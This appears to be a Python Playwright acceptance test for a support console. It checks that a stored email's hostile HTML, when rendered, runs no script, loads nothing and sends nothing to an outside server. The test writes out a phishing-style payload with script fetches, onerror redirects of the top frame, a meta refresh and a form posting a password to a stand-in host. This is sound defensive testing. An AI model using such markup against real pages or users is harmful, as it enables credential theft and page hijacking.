"""Words that would do harm are shown, and do none."""

import contextlib
from collections.abc import AsyncIterator
from uuid import UUID

import pytest
from aiohttp import web
from playwright.async_api import Browser, expect

from ledger.keys import Identity, KeyEncryption, Keys
from ledger.ledger import Ledger
from ledger.signals import Signals
from ledger.store import Store, installation_in, make_pool
from ledger.values import Mail
from ops.settings import load
from tests.acceptance.console.conftest import Shop
from tests.acceptance.console.visiting import visiting
from tests.integration.api.deliveries import sent
from tests.support import ports

pytestmark = pytest.mark.asyncio(loop_scope="session")


async def test_a_hostile_mail_is_shown_and_runs_nothing_loads_nothing_and_sends_nothing(browser: Browser, shop: Shop):
    async with listening() as (elsewhere, asked), visiting(browser, shop.url) as visitor:
        notification = await said(shop, hostile(elsewhere))
        await visitor.sign_in(f"/console/notifications/{notification}")
        await visitor.fill(visitor.page.locator("#content-reason"), "somebody calls it phishing")
        await visitor.press(visitor.page.get_by_role("button", name="Show what it said"))
        frame = visitor.page.frame_locator("iframe.said")
        await expect(frame.get_by_text("You have won")).to_be_visible()
        await frame.get_by_role("button", name="Claim it").click()
        await frame.get_by_role("link", name="Take over").click()
        await frame.get_by_role("link", name="Read more").click()
        await expect(visitor.page).to_have_url(f"{shop.url}/console/notifications/{notification}/content")
        await expect(visitor.page).to_have_title("What a notification said \u2013 Support console")
        # What was is told to whoever has the tools open: that is no complaint about a page of ours.
        assert visitor.complaints
        visitor.complaints.clear()
        visitor.elsewhere.clear()
    assert asked == []


def hostile(elsewhere: str) -> Mail:
    harm = f"""
        <meta http-equiv="refresh" content="0;url={elsewhere}/refresh">
        <link rel="stylesheet" href="{elsewhere}/style">
        <style>body {{ background: url({elsewhere}/background) }}</style>
        <script>parent.document.title = "taken"; fetch("{elsewhere}/fetch")</script>
        <script src="{elsewhere}/script"></script>
        <h1>You have won</h1>
        <img src="{elsewhere}/picture" onerror="top.location = '{elsewhere}/onerror'">
        <img src="data:," onerror="top.location = '{elsewhere}/onerror'">
        <iframe src="{elsewhere}/frame"></iframe><object data="{elsewhere}/object"></object>
        <form method="post" action="{elsewhere}/form"><input name="password"><button>Claim it</button></form>
        <a href="{elsewhere}/top" target="_top">Take over</a> <a href="{elsewhere}/link">Read more</a>
    """
    return Mail(sender="Shop <shop@shop.example>", subject="You have won", html=harm, text="You have won")


async def said(shop: Shop, content: Mail) -> UUID:
    """Have a notification of a kind that is paused say this; return it."""
    async with shop.sandbox.client() as client:
        pause = {"type": "welcome", "reason": "its words are written by hand"}
        paused = (await client.post("/v1/pauses", json=pause)).raise_for_status().json()["id"]
        asked = {"type": "welcome", "recipient": {"email": "success@sandbox.example"}}
        made = (await client.post("/v1/notifications", json=asked)).raise_for_status().json()["notifications"]
        async with ledger_of(shop) as ledger:
            await sent(ledger, UUID(made[0]["id"]), content=content)
        over = {"reason": "they are written"}
        (await client.post(f"/v1/pauses/{paused}/resume", json=over)).raise_for_status()
    return UUID(made[0]["id"])


@contextlib.asynccontextmanager
async def ledger_of(shop: Shop) -> AsyncIterator[Ledger]:
    """Open the sandbox's own ledger, beside the process that serves it."""
    settings = load({}, dotenv=shop.sandbox.data / "settings.env")
    encryption = KeyEncryption(settings.encryption_keys())
    async with contextlib.AsyncExitStack() as stack:
        store = Store(settings.database_url, await stack.enter_async_context(make_pool(settings.database_url, size=2)))
        stack.push_async_callback(store.aclose)
        signals = Signals(settings.database_url)
        signals.start(listen=())
        stack.push_async_callback(signals.stop)
        async with store.connection() as connection:
            installation = await installation_in(connection)
        assert installation is not None
        identity = Identity(encryption.unwrap_identity(installation[1]))
        ledger = Ledger(store, Keys(encryption), identity, signals)
        await ledger.start()
        stack.push_async_callback(ledger.stop)
        yield ledger


@contextlib.asynccontextmanager
async def listening() -> AsyncIterator[tuple[str, list[str]]]:
    """Serve another site; its address, and what was asked of it."""
    asked: list[str] = []

    async def answer(request: web.Request) -> web.Response:
        asked.append(request.path)
        return web.Response(text="taken")

    app = web.Application()
    app.router.add_route("*", "/{any:.*}", answer)
    runner = web.AppRunner(app)
    await runner.setup()
    port = ports.free()
    await web.TCPSite(runner, "127.0.0.1", port).start()
    try:
        yield f"http://127.0.0.1:{port}", asked
    finally:
        await runner.cleanup()
